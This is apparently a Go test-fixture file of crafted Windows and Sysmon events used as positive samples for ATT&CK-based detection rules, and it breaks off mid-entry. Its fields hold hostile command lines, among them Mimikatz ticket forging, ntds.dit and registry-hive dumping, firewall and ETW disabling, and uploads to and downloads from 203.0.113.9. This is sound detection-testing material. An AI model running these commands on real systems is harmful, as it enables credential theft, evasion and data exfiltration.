package detect

// Samples for the rules written from ATT&CK technique text and from how
// Windows and Sysmon log each behaviour (issue #8, part 2): for every rule
// one event it must match and one benign look-alike it must not. All are
// made for the rule; none is taken from a corpus.

func init() {
	rulePositives = append(rulePositives, []ruleSample{
		{
			ID:      "fd72b5b5-cbc5-5edf-9a36-38f59d6eaf85", // Cached Domain Credentials Read From the Registry or With Mimikatz
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\reg.exe",
				"CommandLine": "reg save HKLM\\SECURITY\\Cache C:\\Users\\Public\\c.hiv",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "cad87ff6-89ad-5bea-9973-875baf8f8d96", // SAM Account Database Opened by a Non-System Process
			Channel: "Security", EventID: 4663,
			Fields: map[string]string{
				"EventID":     "4663",
				"ObjectType":  "Key",
				"ObjectName":  "\\REGISTRY\\MACHINE\\SAM\\SAM\\Domains\\Account\\Users",
				"ProcessName": "C:\\Users\\Public\\dump.exe",
			},
		},
		{
			ID:      "74c6cdd9-9a55-595f-9fce-320c1446a043", // Files Searched for Passwords From the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\findstr.exe",
				"CommandLine": "findstr /si password *.xml *.ini *.txt *.config",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "77f18b38-68b3-547a-bba0-1e63d58d949f", // Registry Searched for Stored Passwords
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\reg.exe",
				"CommandLine": "reg query HKLM /f password /t REG_SZ /s",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "a8266518-f949-5dc7-a365-b55f50f2c585", // Certificate Private Key Exported From the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
				"CommandLine": "powershell Export-PfxCertificate -Cert Cert:\\CurrentUser\\My\\1A2B -FilePath C:\\Users\\Public\\c.pfx -Password $p",
				"ParentImage": "C:\\Windows\\explorer.exe",
			},
		},
		{
			ID:      "39268433-21eb-5921-a7dc-af3f7d868d5a", // Group Policy Preference Passwords Searched
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\findstr.exe",
				"CommandLine": "findstr /S /I cpassword \\\\corp.local\\sysvol\\corp.local\\policies\\*.xml",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "b5d01226-ef14-51d4-b9c0-e175946a32c8", // Group Policy Preference Password Decryption in a Script Block
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "$Xml.DocumentElement.Groups.User | % { $_.Properties.cpassword }",
			},
		},
		{
			ID:      "18f872fd-1793-5e2c-82a6-471cba9efebd", // Browser Password Store Opened by Another Program
			Channel: "Security", EventID: 4663,
			Fields: map[string]string{
				"EventID":     "4663",
				"ObjectName":  "C:\\Users\\bob\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data",
				"ProcessName": "C:\\Users\\bob\\AppData\\Local\\Temp\\s.exe",
			},
		},
		{
			ID:      "e0f97bd3-8a65-59ef-ae79-31b972d0c58f", // Browser Cookie Store Opened by Another Program
			Channel: "Security", EventID: 4663,
			Fields: map[string]string{
				"EventID":     "4663",
				"ObjectName":  "C:\\Users\\bob\\AppData\\Local\\Microsoft\\Edge\\User Data\\Default\\Network\\Cookies",
				"ProcessName": "C:\\ProgramData\\u.exe",
			},
		},
		{
			ID:      "e1f8978a-2deb-57be-9d56-d8a6974d40d8", // Password Manager Database Opened by Another Program
			Channel: "Security", EventID: 4663,
			Fields: map[string]string{
				"EventID":     "4663",
				"ObjectName":  "C:\\Users\\bob\\Documents\\vault.kdbx",
				"ProcessName": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
			},
		},
		{
			ID:      "a90b789d-95aa-5a8c-85ec-c560a3606bf4", // Kerberos Golden Ticket Forged on the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Users\\Public\\m.exe",
				"CommandLine": "m.exe \"kerberos::golden /user:admin /domain:corp.local /sid:S-1-5-21-1-2-3 /krbtgt:8846f7eaee8fb117ad06bdd830b7586c /ptt\" exit",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "0f4402f8-68fd-53e2-819e-a534df2a4d38", // Kerberos Silver Ticket Forged on the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Users\\Public\\r.exe",
				"CommandLine": "r.exe silver /service:cifs/fs01.corp.local /rc4:8846f7eaee8fb117ad06bdd830b7586c /user:admin /domain:corp.local /sid:S-1-5-21-1-2-3 /ptt",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "8b6470d6-09ba-5d90-a1e4-641d3910c4b2", // Skeleton Key Patched Into LSASS
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Users\\Public\\m.exe",
				"CommandLine": "m.exe privilege::debug misc::skeleton exit",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "1739af26-36cc-5810-8b33-d862ed69820d", // LLMNR/NBT-NS Poisoning Tool Run From PowerShell
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Invoke-Inveigh -LLMNR Y -NBNS Y -ConsoleOutput Y -FileOutput Y",
			},
		},
		{
			ID:      "09cae616-3ccd-51b2-a61d-b6e9a3d7d6b2", // LLMNR/NBT-NS Poisoning Tool on the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Users\\Public\\Inveigh.exe",
				"CommandLine": "Inveigh.exe -NBNS Y -LLMNR Y",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "49af547e-dd30-566a-9396-d64ed3bede57", // Keystroke Capture APIs Used in a PowerShell Script Block
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "$s = [API.Win32]::GetAsyncKeyState($i); if ($s -eq -32767) { $log += [char]$i }",
			},
		},
		{
			ID:      "3addf699-ef58-5684-87a3-8cb94b35328c", // Certificate Template Abuse or Certificate Forgery Tool
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Users\\Public\\c.exe",
				"CommandLine": "c.exe request /ca:ca01.corp.local\\corp-CA /template:VulnUser /altname:administrator",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "d1135ca3-ecd8-518a-8fd3-6d0ece920a28", // NTDS.dit Copied or Read by a Command or Script
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\cmd.exe",
				"CommandLine": "cmd /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\ntds.dit C:\\Users\\Public\\n.dit",
				"ParentImage": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
			},
		},
		{
			ID:      "b3a2fbe1-c7dc-5215-a587-a5eb5eedac02", // NTDS.dit Read in a PowerShell Script Block
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Invoke-NinjaCopy -Path \"C:\\Windows\\NTDS\\ntds.dit\" -LocalDestination \"C:\\Users\\Public\\ntds.dit\"",
			},
		},
		{
			ID:      "4b3f4708-178c-5bd6-9b3a-b8105e382c02", // NTDS.dit Copied in a PowerShell Pipeline (Classic Log)
			Channel: "Windows PowerShell", EventID: 800,
			Fields: map[string]string{
				"Message": "Pipeline execution details for command line: Invoke-NinjaCopy -Path \"C:\\Windows\\NTDS\\ntds.dit\" -LocalDestination \"C:\\Users\\Public\\n.dit\"",
			},
		},
		{
			ID:      "19b89ca7-cd7e-5b9f-89ee-cc444980c4d2", // Files Securely Deleted With SDelete
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Users\\Public\\sdelete64.exe",
				"CommandLine": "sdelete64.exe -accepteula -p 3 C:\\Users\\Public\\tools\\*.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "e0e96970-a167-551c-bc2e-cf80616fb501", // Script Host or User-Path Program Deletes an Executable
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 23,
			Fields: map[string]string{
				"Image":          "C:\\Windows\\System32\\cmd.exe",
				"TargetFilename": "C:\\Users\\Public\\stage2.exe",
			},
		},
		{
			ID:      "e0e96970-a167-551c-bc2e-cf80616fb501", // Script Host or User-Path Program Deletes an Executable
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 26,
			Fields: map[string]string{
				"Image":          "C:\\ProgramData\\svc.exe",
				"TargetFilename": "C:\\ProgramData\\svc.dll",
			},
		},
		{
			ID:      "7bff984a-6041-596e-93c3-88abf5e819ad", // Network Share Connection Removed From the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\net.exe",
				"CommandLine": "net use \\\\10.0.0.5\\C$ /delete",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "b893e953-8c2f-590e-8fe5-0bee45a5b559", // File Creation Time Changed by a Script Host or User-Path Program
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 2,
			Fields: map[string]string{
				"Image":                   "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
				"TargetFilename":          "C:\\Windows\\System32\\wlbsctrl.dll",
				"CreationUtcTime":         "2015-07-10 11:00:00.000",
				"PreviousCreationUtcTime": "2026-12-01 09:12:00.000",
			},
		},
		{
			ID:      "71807109-9112-562b-a425-b4928447ae75", // PowerShell Command History Deleted
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
				"CommandLine": "powershell Remove-Item (Get-PSReadlineOption).HistorySavePath",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "fb07ebd6-7387-572f-b55f-498ed95d9888", // PowerShell Command History Deleted in a Script Block
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Remove-Item (Get-PSReadlineOption).HistorySavePath -Force",
			},
		},
		{
			ID:      "561ad536-0c6a-5a21-9bbb-ef9ed8c0a935", // PowerShell Command History Logging Turned Off
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Set-PSReadlineOption -HistorySaveStyle SaveNothing",
			},
		},
		{
			ID:      "889bbaf8-1356-5940-b2d0-7af65a842a75", // Windows Firewall Disabled or Opened From the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\netsh.exe",
				"CommandLine": "netsh advfirewall set allprofiles state off",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "0c38f9a1-d0a1-5cb9-8140-f0b01d7aced0", // Event Tracing Disabled for .NET or an Event Log Provider
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\cmd.exe",
				"CommandLine": "cmd /c set COMPlus_ETWEnabled=0 && powershell.exe",
				"ParentImage": "C:\\Windows\\explorer.exe",
			},
		},
		{
			ID:      "a28e1dea-6b30-507a-9fc1-41f638f264ac", // .NET Event Tracing Disabled in the Registry
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
			Fields: map[string]string{
				"Image":        "C:\\Windows\\System32\\reg.exe",
				"TargetObject": "HKLM\\SOFTWARE\\Microsoft\\.NETFramework\\ETWEnabled",
				"Details":      "DWORD (0x00000000)",
			},
		},
		{
			ID:      "fef78b94-d5cc-5270-b901-cec80f7f2b87", // Next Boot Set to Safe Mode
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\bcdedit.exe",
				"CommandLine": "bcdedit /set {current} safeboot network",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "793433b2-e299-532a-a621-bf37f5d2291c", // PowerShell Started in Version 2
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
				"CommandLine": "powershell.exe -version 2 -nop -c \"IEX $s\"",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "7c6e3395-6e9f-5b0d-a4a3-b2f03334758e", // Executable or Script Hidden With attrib
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\attrib.exe",
				"CommandLine": "attrib +h +s C:\\ProgramData\\svc\\updater.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "421967cd-b5a3-5ca0-bd33-2515f18830a5", // Account Hidden From the Logon Screen
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
			Fields: map[string]string{
				"Image":        "C:\\Windows\\System32\\reg.exe",
				"TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\SpecialAccounts\\UserList\\support$",
				"Details":      "DWORD (0x00000000)",
			},
		},
		{
			ID:      "efcaf5db-4a07-5963-9183-578748c129ab", // Executable Content Written to an Alternate Data Stream
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 15,
			Fields: map[string]string{
				"Image":          "C:\\Windows\\System32\\cmd.exe",
				"TargetFilename": "C:\\Users\\Public\\readme.txt:payload.exe",
			},
		},
		{
			ID:      "f9b93670-979b-5ee5-9a15-e522bd502bfd", // Windows Utility Running Under Another File Name
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":            "C:\\Users\\Public\\svchost32.exe",
				"OriginalFileName": "Cmd.Exe",
				"CommandLine":      "svchost32.exe /c whoami",
				"ParentImage":      "C:\\Windows\\explorer.exe",
			},
		},
		{
			ID:      "39456b30-9613-583f-abaf-e0a034167741", // File Name With a Right-to-Left Override Character
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Users\\bob\\Downloads\\invoice\u202egpj.exe",
				"CommandLine": "\"C:\\Users\\bob\\Downloads\\invoice\u202egpj.exe\"",
				"ParentImage": "C:\\Windows\\explorer.exe",
			},
		},
		{
			ID:      "dfadf0e5-9542-5d33-8b87-d76b03a1c49c", // Command Line Obfuscated With Carets or Environment Substrings
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\cmd.exe",
				"CommandLine": "cmd /c p^o^w^e^r^s^h^e^l^l -nop -c whoami",
				"ParentImage": "C:\\Windows\\explorer.exe",
			},
		},
		{
			ID:      "a314795e-76d3-518a-b217-c0e6354aa27c", // Msiexec Installs a Package From a URL or Runs a DLL
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\msiexec.exe",
				"CommandLine": "msiexec /q /i http://203.0.113.9/pkg.msi",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "9374a9dd-0cb0-57fd-866f-da4be87156e6", // Odbcconf Registers a DLL or Runs a Response File
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\odbcconf.exe",
				"CommandLine": "odbcconf.exe /a {REGSVR C:\\Users\\Public\\x.dll}",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "8d8e3793-7ebb-56fb-8149-6b1dd3b24c78", // RegAsm or RegSvcs Loads an Assembly From a User-Writable Path
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\RegAsm.exe",
				"CommandLine": "RegAsm.exe /U C:\\Users\\Public\\payload.dll",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "6e3e0991-4080-5ff8-97f0-e0fa7d2ddb01", // Verclsid Instantiates a COM Object From the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\verclsid.exe",
				"CommandLine": "verclsid.exe /S /C {D52A8F36-7D3E-4D1B-A5E5-D2F9C2A3B111}",
				"ParentImage": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
			},
		},
		{
			ID:      "2582aa4e-6946-5995-bce5-0156895ea847", // MMC Opens a Console File From a User-Writable Path
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\mmc.exe",
				"CommandLine": "\"C:\\Windows\\system32\\mmc.exe\" \"C:\\Users\\bob\\Downloads\\invoice.msc\"",
				"ParentImage": "C:\\Windows\\explorer.exe",
			},
		},
		{
			ID:      "9ae122ca-ee15-5da4-8880-d92e5af15f91", // PubPrn.vbs Runs a Remote Scriptlet
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\cscript.exe",
				"CommandLine": "cscript.exe /b C:\\Windows\\System32\\Printing_Admin_Scripts\\en-US\\pubprn.vbs 127.0.0.1 script:https://203.0.113.9/p.sct",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "34b69ec3-7f77-524b-bee1-ffe9a4229c1b", // SyncAppvPublishingServer Runs PowerShell Commands
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\wscript.exe",
				"CommandLine": "wscript.exe C:\\Windows\\System32\\SyncAppvPublishingServer.vbs \"n; Start-Process calc\"",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "9c70f78a-1283-52d8-8499-1049421f4436", // Command Run Indirectly Through forfiles or pcalua
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\forfiles.exe",
				"CommandLine": "forfiles /p C:\\Windows\\System32 /m notepad.exe /c \"C:\\Users\\Public\\a.exe\"",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "880c6547-911e-505c-b06d-a7324a662429", // Rogue Domain Controller Registered (DCShadow)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Users\\Public\\m.exe",
				"CommandLine": "m.exe \"lsadump::dcshadow /object:bob /attribute:primaryGroupID /value:512\" exit",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "38e61e17-1ecc-5247-897d-4d0f1c03a1f9", // SID History Added to an Account
			Channel: "Security", EventID: 4738,
			Fields: map[string]string{
				"EventID":        "4738",
				"TargetUserName": "bob",
				"SidHistory":     "S-1-5-21-1-2-3-512",
			},
		},
		{
			ID:      "f7bcb4cb-85af-5eac-9c54-be788146a512", // Group Policy Object Settings Changed by a User Account
			Channel: "Security", EventID: 5136,
			Fields: map[string]string{
				"EventID":                  "5136",
				"ObjectClass":              "groupPolicyContainer",
				"AttributeLDAPDisplayName": "gPCMachineExtensionNames",
				"SubjectUserName":          "bob",
			},
		},
		{
			ID:      "6c418e1e-7880-5935-b8ec-1fa2f707364d", // Root Certificate Installed From the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\certutil.exe",
				"CommandLine": "certutil -addstore -f root C:\\Users\\Public\\ca.cer",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "947c9e58-71b7-5ffe-ac6f-325484ce5e06", // Virtual Machine or Sandbox Checks in a PowerShell Script Block
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "if ((Get-WmiObject Win32_ComputerSystem).Model -match \"VirtualBox|VMware\") { exit }",
			},
		},
		{
			ID:      "e5528f3f-be04-5e21-ab54-7dd87cb08585", // Remote Thread Starts at LoadLibrary (DLL Injection)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 8,
			Fields: map[string]string{
				"SourceImage":   "C:\\Users\\Public\\inj.exe",
				"TargetImage":   "C:\\Windows\\explorer.exe",
				"StartFunction": "LoadLibraryW",
				"StartModule":   "C:\\Windows\\System32\\KERNELBASE.dll",
			},
		},
		{
			ID:      "4582c620-e117-5cc4-a9d2-95abd7bb2e7d", // Process Image Replaced in Memory (Process Hollowing)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 25,
			Fields: map[string]string{
				"Image": "C:\\Windows\\System32\\svchost.exe",
				"Type":  "Image is replaced",
			},
		},
		{
			ID:      "ec059f1d-a313-5593-870a-0e310decd508", // APC Injection APIs in a PowerShell Script Block
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "$m=[K32]::VirtualAllocEx($h,0,$sc.Length,0x3000,0x40); [K32]::WriteProcessMemory($h,$m,$sc,$sc.Length,[ref]0); [K32]::QueueUserAPC($m,$t,0)",
			},
		},
		{
			ID:      "a9d09b49-d9f5-5510-91a7-b87a07b270a2", // Parent Process Spoofing Attribute Used in PowerShell
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "$PROC_THREAD_ATTRIBUTE_PARENT_PROCESS = 0x00020000; [Kernel32]::UpdateProcThreadAttribute($si.lpAttributeList, 0, $PROC_THREAD_ATTRIBUTE_PARENT_PROCESS, $lpValue, [IntPtr]::Size, [IntPtr]::Zero, [IntPtr]::Zero)",
			},
		},
		{
			ID:      "bdf0e895-8045-5d8b-8ec4-8cdef8216aec", // Remote Desktop Connection History Deleted
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\reg.exe",
				"CommandLine": "reg delete \"HKCU\\Software\\Microsoft\\Terminal Server Client\\Default\" /va /f",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "ef41b8ed-56af-5f1c-bdff-525a10ed784b", // Program in a User Folder Starts a Command Shell
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\cmd.exe",
				"CommandLine": "cmd.exe /c whoami /all",
				"ParentImage": "C:\\Users\\bob\\Downloads\\invoice.exe",
			},
		},
		{
			ID:      "a33c05a3-6e4a-5409-81e0-990866e4f04c", // Win32 API Imported Into PowerShell With Add-Type
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Add-Type @\"\n[DllImport(\"kernel32.dll\")] public static extern IntPtr VirtualAlloc(IntPtr a, uint s, uint t, uint p);\n\"@",
			},
		},
		{
			ID:      "5358945c-ca20-52d5-aed4-8da551a6be2a", // Equation Editor or Office Helper Starts a Process
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\cmd.exe",
				"CommandLine": "cmd.exe /c powershell -w hidden -c iwr http://203.0.113.9/a.exe",
				"ParentImage": "C:\\Program Files (x86)\\Common Files\\Microsoft Shared\\EQUATION\\EQNEDT32.EXE",
			},
		},
		{
			ID:      "5513d9ed-be26-55ca-9a13-709323de6dc5", // Windows Script Host Runs a VBScript From a User-Writable Path
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\wscript.exe",
				"CommandLine": "\"C:\\Windows\\System32\\WScript.exe\" \"C:\\Users\\bob\\Downloads\\invoice.vbs\"",
				"ParentImage": "C:\\Windows\\explorer.exe",
			},
		},
		{
			ID:      "f5ed4298-42c4-5824-843e-14e15864bf42", // Windows Script Host Runs a JScript From a User-Writable Path
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\wscript.exe",
				"CommandLine": "\"C:\\Windows\\System32\\WScript.exe\" \"C:\\Users\\bob\\AppData\\Local\\Temp\\Rar$EX01\\order.js\"",
				"ParentImage": "C:\\Windows\\explorer.exe",
			},
		},
		{
			ID:      "3749450e-6a85-5815-964b-1c7416e2ba79", // AutoIt or AutoHotkey Interpreter Runs a Script From a User-Writable Path
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Users\\Public\\AutoIt3.exe",
				"CommandLine": "C:\\Users\\Public\\AutoIt3.exe C:\\Users\\Public\\x.a3x",
				"ParentImage": "C:\\Windows\\explorer.exe",
			},
		},
		{
			ID:      "cae60c39-4510-5682-bd85-ddd78962ebc0", // Data Archived With a Password or Into Volumes by a Command-Line Archiver
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\ProgramData\\7za.exe",
				"CommandLine": "7za.exe a -tzip -pS3cret C:\\ProgramData\\out.zip C:\\Users\\bob\\Documents\\*",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "f271c951-751c-5a66-88a0-d3cb7aa21947", // Data Compressed From PowerShell Into a Staging Folder
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Compress-Archive -Path $env:USERPROFILE\\Documents\\* -DestinationPath $env:TEMP\\docs.zip",
			},
		},
		{
			ID:      "dd2c2602-2003-5190-8b5d-11c725dc97db", // Outlook Data File Copied or Archived From the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\cmd.exe",
				"CommandLine": "cmd /c copy C:\\Users\\bob\\AppData\\Local\\Microsoft\\Outlook\\bob@corp.com.ost C:\\Users\\Public\\m.ost",
				"ParentImage": "C:\\Users\\Public\\a.exe",
			},
		},
		{
			ID:      "a4f72291-d889-5f79-aeba-5cc8ac3c810b", // Webcam Capture From PowerShell
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "[DllImport(\"avicap32.dll\")] public static extern IntPtr capCreateCaptureWindowA(string n, int s, int x, int y, int w, int h, IntPtr p, int id);",
			},
		},
		{
			ID:      "925b82ff-a5ee-545d-bceb-b2399a545d17", // Video Capture Library Loaded by a Script Host or User-Path Program
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 7,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
				"ImageLoaded": "C:\\Windows\\System32\\avicap32.dll",
			},
		},
		{
			ID:      "483a6cb8-af6d-5655-b398-239c9bccd76a", // File Uploaded Over FTP, TFTP or Plain HTTP From the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\curl.exe",
				"CommandLine": "curl.exe -T C:\\Users\\Public\\out.zip ftp://203.0.113.9/in/",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "1bcd7235-619b-539a-92f2-36a1cafda898", // Rclone or MEGA Client Copies Data to Cloud Storage
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":            "C:\\ProgramData\\svc.exe",
				"CommandLine":      "svc.exe copy C:\\Shares\\Finance mega:backup --transfers 8 --ignore-existing",
				"ParentImage":      "C:\\Windows\\System32\\cmd.exe",
				"OriginalFileName": "rclone.exe",
			},
		},
		{
			ID:      "4f093d41-0e4a-56c2-bdc0-c9372e1a4ca4", // Archive Split Into Fixed-Size Volumes
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\ProgramData\\rar.exe",
				"CommandLine": "rar.exe a -v50m C:\\ProgramData\\d.rar C:\\Shares\\HR",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "a746fe2b-702d-5644-a0c6-7924b5d30f2d", // File Uploaded With scp, pscp or sftp
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
